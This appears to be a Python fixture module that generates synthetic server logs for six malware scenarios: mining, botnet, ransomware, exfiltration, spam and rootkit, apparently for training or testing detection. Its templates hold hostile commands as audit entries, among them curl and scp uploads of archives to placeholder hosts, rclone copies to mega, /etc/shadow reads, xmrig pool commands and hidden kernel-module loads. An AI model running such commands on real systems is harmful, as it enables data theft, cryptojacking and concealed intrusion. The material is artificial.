"""Malicious software at work: miners, botnets, ransomware, theft and spam."""

from __future__ import annotations

from workbench.samples.cases.record import Motion, Scenario, story
from workbench.samples.cases.scripts.entry import DISCOVERY, ENTRY

MALICIOUS = "malicious"

SCENARIOS = (
    Scenario(
        "mali_1",
        "cryptomining malware",
        MALICIOUS,
        (
            Motion("cpu_usage", "plateau", 97, 99.9),
            Motion("net_out", "plateau", 3.5, 7),
            Motion("disk_io", "fall", 0.3, 0.6),
        ),
        story(ENTRY + """
            onset systemd 1-1
            A Started kworkerd.service - Kernel helper daemon.
            A Started sysupdate.service.
            B Created slice user-runtime of uid 998; started dbus-helper.service.
            B Started netns-agent.service - Network namespace agent.
            onset audit 1-2
            A type=EXECVE argc=5 a0="/tmp/.X11-unix/xmrig" a1="-o" a2="stratum+tcp://{dom}:3333" a3="-u" a4="{hex}"
            A type=SYSCALL exe="/var/tmp/.cache/xmrig" comm="xmrig" uid=33 success=yes
            B type=EXECVE argc=4 a0="/dev/shm/.{word}/xmrig" a1="--url=stratum+ssl://{dom}:14444" a2="--donate-level=1"
            B type=PROCTITLE proctitle="./xmrig -c /dev/shm/.{word}/config.json --coin monero" ppid=1
            during xmrig 2-4
            A  net      use pool {dom}:3333 TLSv1.3 {ext}
            A  cpu      accepted ({n}/0) diff {big} ({ms} ms)
            B  net      new job from pool {dom}:14444 diff {big} algo rx/0 height {big}
            B  miner    speed 10s/60s/15m {big} {big} n/a H/s max {big} H/s, pool {dom}
            during named 1-3
            A client @0x{hex} {ip}#{port} (pool.{dom}): query: pool.{dom} IN A +E(0)
            B client @0x{hex} {ip}#{port} (stratum.{dom}): query: stratum.{dom} IN AAAA + ({ip})
            during? kernel 1-2
            A CPU{cpu}: Core temperature above threshold, cpu clock throttled (total events = {n})
            B CPU{cpu}: Package temperature is above threshold, cpu clock is throttled (total events = {big})
            """),
        length=(1, 1),
        extras=(Motion("gpu_usage", "plateau", 80, 99),),
        quiet={"cpu_usage": (13, 18)},
    ),
    Scenario(
        "mali_2",
        "DDoS botnet agent",
        MALICIOUS,
        (Motion("net_out", "plateau", 60, 110), Motion("cpu_usage", "plateau", 40, 75)),
        story(ENTRY + """
            onset audit 1-2
            A type=EXECVE argc=2 a0="/tmp/.{word}" a1="{ext}:6667" exe="/tmp/.{word}" uid=33
            B type=SYSCALL comm="mirai.x86" exe="/var/run/.{word}" socket=raw uid=0 success=yes
            onset? ircd-watch 1-1
            A outbound IRC session {ip}:{port} -> {ext}:6667 JOIN #{word}
            B beacon to controller {ext}:48101 answered with an attack order, target list of {n} hosts
            during kernel 2-5
            A nf_conntrack: table full, dropping packet
            A [UFW BLOCK] IN= OUT=eth0 SRC={ip} DST={ext} LEN=40 PROTO=TCP SPT={port} DPT=80 SYN URGP=0
            B [UFW AUDIT] IN= OUT=ens5 SRC={ip} DST={ext} LEN=1428 PROTO=UDP SPT={port} DPT=53
            B net_ratelimit: {big} callbacks suppressed
            during suricata 1-3
            A [1:2016016:8] ET DOS Possible SYN flood outbound [Classification: Attempted DoS] {ip}:{port} -> {ext}:80
            B [1:2017919:2] ET DOS UDP amplification traffic from our network, {ip}:{port} -> {ext}:123
            """),
    ),
    Scenario(
        "mali_3",
        "ransomware",
        MALICIOUS,
        (Motion("disk_io", "plateau", 180, 420), Motion("cpu_usage", "plateau", 70, 96)),
        story(ENTRY + """
            onset audit 1-2
            A type=EXECVE argc=3 a0="/tmp/{word}.elf" a1="--path" a2="/srv" comm="{word}" uid=0
            B type=SYSCALL comm="enc_{word}" exe="/root/.{word}/enc" syscall=rename success=yes key="mass-rename"
            onset? systemd 1-1
            A Stopped veeamservice.service - Backup agent, by uid 0.
            B Stopping snapshot-daemon.service at the request of uid 0.
            during audit 3-6
            A type=PATH name="{path}/{file}.xlsx.locked" nametype=CREATE key="rename"
            A type=PATH name="{path}/{file}.docx" nametype=DELETE key="delete"
            B type=PATH name="{path}/{file}.pdf.crypt" nametype=CREATE inode={big} key="mass-rename"
            B type=PATH name="{path}/{file}.db.enc" nametype=CREATE inode={big} key="mass-rename"
            during smbd 1-3
            A {user} (ipv4:{ip}:{port}) renamed {path}/{file}.pdf -> {path}/{file}.pdf.locked
            B vfs_full_audit: {user}|{ip}|renameat|ok|{file}.csv|{file}.csv.crypt
            after? audit 1-1
            A type=PATH name="/srv/README_RESTORE_FILES.txt" nametype=CREATE
            B type=PATH name="/home/HOW_TO_DECRYPT.html" nametype=CREATE
            """),
        resembles="norm_2",
    ),
    Scenario(
        "mali_4",
        "data exfiltration",
        MALICIOUS,
        (Motion("net_out", "plateau", 45, 120), Motion("disk_io", "plateau", 60, 150)),
        story(ENTRY + """
            onset audit 1-2
            A type=PATH name="/etc/shadow" nametype=NORMAL comm="cat" auid={uid} success=yes key="shadow-read"
            A type=EXECVE argc=4 a0="tar" a1="czf" a2="/tmp/.{word}.tgz" a3="{path}"
            B type=EXECVE argc=5 a0="7z" a1="a" a2="-p{hex}" a3="/dev/shm/{word}.7z" a4="{path}"
            B type=PATH name="/etc/passwd" nametype=NORMAL comm="python3" auid={uid} key="identity-read"
            onset postgres 0-1
            A LOG:  statement: COPY {table} TO '/tmp/.{word}.csv' WITH CSV HEADER
            B LOG:  duration: {big} ms  statement: SELECT * FROM {table}
            during audit 2-4
            A type=EXECVE argc=6 a0="curl" a1="-T" a2="/tmp/.{word}.tgz" a3="https://{dom}/up" a4="-k"
            A type=SOCKADDR saddr={ fam=inet laddr={ext} lport=443 } comm="curl"
            B type=EXECVE argc=4 a0="rclone" a1="copy" a2="/dev/shm/{word}.7z" a3="mega:{word}"
            B type=EXECVE argc=4 a0="scp" a1="-P" a2="2222" a3="{user}@{ext}:in/"
            during zeek 1-2
            A notice Large_Outgoing_Transfer {ip} -> {ext}:443 {big} bytes, destination never seen
            B notice Exfil::Upload orig={ip} resp={ext} ssl sni={dom} orig_bytes={big}
            """),
        resembles="norm_1",
    ),
    Scenario(
        "mali_5",
        "spam bot",
        MALICIOUS,
        (Motion("net_out", "plateau", 52, 79), Motion("cpu_usage", "plateau", 63, 75)),
        story(ENTRY + """
            onset postfix/pickup 1-2
            A {qid}: uid=33 from=<www-data>
            B {qid}: uid=48 from=<apache>
            during postfix/smtp 3-6
            A {qid}: to=<{word}@{dom}>, relay=mx1.{dom}[{ext}]:25, delay={sec}, dsn=4.7.0, status=deferred (rate limit)
            A {qid}: to=<{word}@{dom}>, relay=none, dsn=5.7.1, status=bounced (listed by zen.spamhaus.org)
            B {qid}: host mx.{dom}[{ext}] refused to talk to me: 554 5.7.1 Service unavailable; client host blocked
            B {qid}: to=<{word}@{dom}>, relay=mail.{dom}[{ext}]:25, dsn=5.1.1, status=bounced (user unknown)
            during postfix/qmgr 1-3
            A {qid}: from=<offer-{n}@{dom}>, size={n}, nrcpt=50 (queue active)
            B warning: mail for {dom} is using up {big} of 20000 active queue entries
            during? postfix/cleanup 1-2
            A {qid}: message-id=<{hex}@{host}> X-PHP-Originating-Script: 33:mailer.php
            B {qid}: warning: header Subject: You have won, {n} recipients; from local
            """),
        length=(0.5, 0.8),
    ),
    Scenario(
        "mali_6",
        "rootkit / backdoor",
        MALICIOUS,
        (),
        story(ENTRY + DISCOVERY + """
            onset kernel 1-2
            A {word}: loading out-of-tree module taints kernel.
            A {word}: module verification failed: signature and/or required key missing - tainting kernel
            B module {word} hooks sys_call_table entry getdents64
            B Lockdown: insmod: unsigned module loading attempted by uid 0
            during audit 2-3
            A type=SYSCALL syscall=init_module comm="insmod" exe="/usr/bin/kmod" auid={uid} key="modules"
            A type=PATH name="/etc/ld.so.preload" nametype=CREATE key="preload"
            B type=EXECVE argc=2 a0="insmod" a1="/lib/modules/.{word}.ko"
            B type=PATH name="/usr/lib/.{word}.so.2" nametype=CREATE mode=0104755 key="lib-write"
            during rkhunter 1-2
            A Warning: Hidden process found: PID {pid}
            A Warning: The command '/usr/bin/ps' has been replaced: size differs from package
            B Warning: Process with PID {pid} is listed by /proc but not by ps
            B Warning: Network TCP port {port} is being used by a hidden process
            during sshd 0-2
            A Accepted publickey for root from {ext} port {port} ssh2: RSA SHA256:{hex}
            B Server listening on 0.0.0.0 port {port} started from a second binary
            """),
        resembles="norm_16",
        quiet={"cpu_usage": (14, 22), "mem_usage": (39.5, 50), "net_out": (0.8, 1.6), "net_in": (0.8, 1.6)},
        alone=True,
    ),
)
